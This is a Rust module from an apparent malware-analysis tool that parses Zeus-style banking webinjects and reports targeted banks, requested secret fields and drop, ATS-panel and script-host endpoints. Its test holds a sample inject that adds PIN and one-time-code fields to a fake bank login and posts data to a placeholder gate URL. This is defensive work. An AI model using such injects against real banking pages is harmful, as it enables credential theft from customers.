//! What a set of injects tells: targets, asked-for fields, and where stolen data goes.

use dropwatch_masks::{host_in_domain, host_of, InstitutionIndex};
use dropwatch_model::{classify_field_name, Inject, SecretKind};
use serde::Serialize;

/// Hosts that injects load common libraries from; they are never indicators.
pub const BENIGN_HOSTS: &[&str] = &[
    "ajax.googleapis.com",
    "code.jquery.com",
    "cdnjs.cloudflare.com",
    "cdn.jsdelivr.net",
    "unpkg.com",
    "www.w3.org",
    "w3.org",
    "schemas.microsoft.com",
];

/// What an external URL in an inject is.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum EndpointClass {
    /// Stolen data is posted here.
    Drop,
    /// An automatic-transfer panel.
    AtsPanel,
    /// Script the inject loads from a criminal host.
    ScriptHost,
    /// A benign public CDN or standards host (allow-listed).
    Benign,
    /// The targeted institution's own site.
    InstitutionSite,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Endpoint {
    pub url: String,
    pub host: String,
    pub class: EndpointClass,
    /// Index of the inject entry it was found in.
    pub entry: usize,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Target {
    pub url_mask: String,
    pub flags: String,
    /// `None` when no registry institution matches: a candidate to add to the registry.
    pub institution_id: Option<String>,
    pub grab: bool,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct AskedField {
    pub name: String,
    pub kind: SecretKind,
    pub entry: usize,
}

#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
pub struct InjectAnalysis {
    pub targets: Vec<Target>,
    pub endpoints: Vec<Endpoint>,
    pub fields: Vec<AskedField>,
}

impl InjectAnalysis {
    /// Distinct institutions targeted, sorted.
    pub fn institutions(&self) -> Vec<String> {
        let mut ids: Vec<String> = self
            .targets
            .iter()
            .filter_map(|t| t.institution_id.clone())
            .collect();
        ids.sort();
        ids.dedup();
        ids
    }

    /// Distinct endpoint URLs of one class, sorted.
    pub fn endpoints_of(&self, class: EndpointClass) -> Vec<String> {
        let mut urls: Vec<String> = self
            .endpoints
            .iter()
            .filter(|e| e.class == class)
            .map(|e| e.url.clone())
            .collect();
        urls.sort();
        urls.dedup();
        urls
    }
}

/// Analyses parsed injects against an institution registry.
pub fn analyze(injects: &[Inject], index: &InstitutionIndex) -> InjectAnalysis {
    let mut out = InjectAnalysis::default();
    for (entry, inject) in injects.iter().enumerate() {
        let institution = index.lookup_mask(&inject.url_mask);
        out.targets.push(Target {
            url_mask: inject.url_mask.clone(),
            flags: inject.flags.clone(),
            institution_id: institution.map(|i| i.id.clone()),
            grab: inject.is_grab(),
        });
        if inject.is_grab() {
            // With `L` the inject block is only a label, not HTML.
            continue;
        }
        for block in &inject.blocks {
            let text = String::from_utf8_lossy(&block.inject);
            for (url, context) in find_urls(&text) {
                let Some(host) = host_of(&url) else { continue };
                let class = classify_endpoint(
                    &url,
                    &host,
                    &context,
                    index,
                    institution.map(|i| i.domains.as_slice()),
                );
                if !out
                    .endpoints
                    .iter()
                    .any(|e| e.url == url && e.entry == entry)
                {
                    out.endpoints.push(Endpoint {
                        url,
                        host,
                        class,
                        entry,
                    });
                }
            }
            for name in find_field_names(&text) {
                if let Some(kind) = classify_field_name(&name) {
                    if !out
                        .fields
                        .iter()
                        .any(|f| f.name == name && f.entry == entry)
                    {
                        out.fields.push(AskedField { name, kind, entry });
                    }
                }
            }
        }
    }
    out
}

fn classify_endpoint(
    url: &str,
    host: &str,
    context: &str,
    index: &InstitutionIndex,
    own: Option<&[String]>,
) -> EndpointClass {
    let lower_url = url.to_ascii_lowercase();
    let path = lower_url
        .split_once("://")
        .map_or(lower_url.as_str(), |(_, r)| r);
    let path = path.find('/').map_or("", |i| &path[i..]);
    if BENIGN_HOSTS.iter().any(|b| host_in_domain(host, b)) {
        return EndpointClass::Benign;
    }
    if own.is_some_and(|domains| domains.iter().any(|d| host_in_domain(host, d)))
        || index.lookup_url(url).is_some()
    {
        return EndpointClass::InstitutionSite;
    }
    let ctx = context.to_ascii_lowercase();
    let script_path = path.split(['?', '#']).next().unwrap_or("").ends_with(".js");
    if path.contains("/ats") || path.contains("transfer") || ctx.contains("ats_") {
        return EndpointClass::AtsPanel;
    }
    if script_path || (ctx.contains("src=") && !ctx.contains("action=")) {
        return EndpointClass::ScriptHost;
    }
    EndpointClass::Drop
}

/// Finds absolute and protocol-relative URLs in inject text, each with the text just before it.
fn find_urls(text: &str) -> Vec<(String, String)> {
    let bytes = text.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < bytes.len() {
        let rest = &bytes[i..];
        let scheme_len = if starts_with_ci(rest, b"https://") {
            8
        } else if starts_with_ci(rest, b"http://") {
            7
        } else if rest.starts_with(b"//") && i > 0 && matches!(bytes[i - 1], b'"' | b'\'' | b'=') {
            2
        } else {
            i += 1;
            continue;
        };
        let end = rest
            .iter()
            .position(|&b| {
                b.is_ascii_whitespace()
                    || matches!(
                        b,
                        b'"' | b'\'' | b'<' | b'>' | b')' | b'(' | b';' | b'`' | b','
                    )
            })
            .unwrap_or(rest.len());
        if end > scheme_len {
            let url = String::from_utf8_lossy(&rest[..end]).into_owned();
            let url = if scheme_len == 2 {
                format!("https:{url}")
            } else {
                url
            };
            let ctx_start = floor_char_boundary(text, i.saturating_sub(48));
            out.push((url, text[ctx_start..i].to_string()));
        }
        i += end.max(1);
    }
    out
}

fn floor_char_boundary(s: &str, mut i: usize) -> usize {
    while i > 0 && !s.is_char_boundary(i) {
        i -= 1;
    }
    i
}

fn starts_with_ci(hay: &[u8], needle: &[u8]) -> bool {
    hay.len() >= needle.len() && hay[..needle.len()].eq_ignore_ascii_case(needle)
}

/// Finds `name=` attribute values of form fields in inject HTML.
fn find_field_names(text: &str) -> Vec<String> {
    let lower = text.to_ascii_lowercase();
    let mut out = Vec::new();
    let mut from = 0;
    while let Some(at) = lower[from..].find("name=") {
        let start = from + at + 5;
        from = start;
        // Only attributes: `name=` preceded by a blank.
        if start < 6 || !lower.as_bytes()[start - 6].is_ascii_whitespace() {
            continue;
        }
        let rest = &text[start..];
        let (value, _) = match rest.as_bytes().first() {
            Some(b'"') => rest[1..].split_once('"').unwrap_or((&rest[1..], "")),
            Some(b'\'') => rest[1..].split_once('\'').unwrap_or((&rest[1..], "")),
            _ => rest
                .split_once([' ', '>', '/', '\t', '\n'])
                .unwrap_or((rest, "")),
        };
        if !value.is_empty() && value.len() <= 64 {
            out.push(value.to_string());
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::zeus::{parse_zeus, Mode};
    use dropwatch_model::Institution;

    fn index() -> InstitutionIndex {
        InstitutionIndex::new(vec![Institution {
            id: "jp-a".into(),
            name: "A Bank".into(),
            country: "JP".into(),
            domains: vec!["a-bank.example".into()],
            url_masks: vec![],
            account_fields: vec![],
        }])
    }

    #[test]
    fn finds_targets_fields_and_endpoints() {
        let src = "set_url https://ib.a-bank.example/login* GP\r\ndata_before\r\n<form*>\r\ndata_end\r\ndata_inject\r\n\
<input type=password name=\"ansho_pin\"><input name='otp'>\r\n\
<script src=\"https://ajax.googleapis.com/ajax/libs/jquery/1.7.2/jquery.min.js\"></script>\r\n\
<script src=\"//static.evil-cdn.example/js/inj.js\"></script>\r\n\
<img src=\"https://ib.a-bank.example/logo.gif\">\r\n\
<script>var gate_link=\"http://203.0.113.7:8080/kit/gate.php\"; $.post(gate_link, {a:1});</script>\r\n\
data_end\r\ndata_after\r\n</form>\r\ndata_end\r\n\
set_url https://mail.other.example/* GPL\r\ndata_before\r\ndata_end\r\ndata_inject\r\nhttp://label.example/\r\ndata_end\r\ndata_after\r\ndata_end\r\n";
        let parsed = parse_zeus(src.as_bytes(), Mode::Strict).unwrap();
        let a = analyze(&parsed.injects, &index());
        assert_eq!(a.institutions(), vec!["jp-a".to_string()]);
        assert_eq!(a.targets[1].institution_id, None);
        assert!(a.targets[1].grab);
        assert_eq!(
            a.endpoints_of(EndpointClass::Drop),
            vec!["http://203.0.113.7:8080/kit/gate.php".to_string()]
        );
        assert_eq!(
            a.endpoints_of(EndpointClass::ScriptHost),
            vec!["https://static.evil-cdn.example/js/inj.js".to_string()]
        );
        assert_eq!(a.endpoints_of(EndpointClass::Benign).len(), 1);
        assert_eq!(a.endpoints_of(EndpointClass::InstitutionSite).len(), 1);
        let kinds: Vec<_> = a.fields.iter().map(|f| (f.name.as_str(), f.kind)).collect();
        assert_eq!(
            kinds,
            vec![
                ("ansho_pin", SecretKind::Pin),
                ("otp", SecretKind::OneTimeCode)
            ]
        );
    }
}
